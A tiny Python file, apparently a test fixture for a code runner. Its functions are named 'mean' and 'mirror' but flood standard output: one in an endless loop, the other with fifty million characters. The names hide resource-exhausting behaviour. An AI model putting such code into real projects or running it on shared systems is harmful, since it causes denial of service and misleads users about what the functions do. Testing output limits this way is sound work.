# %% mean
import os


def mean(values):
    while True:
        os.write(1, b"flood" * 1000)
# %% mirror
def mirror(text):
    print("x" * 50_000_000)
    return text[::-1]
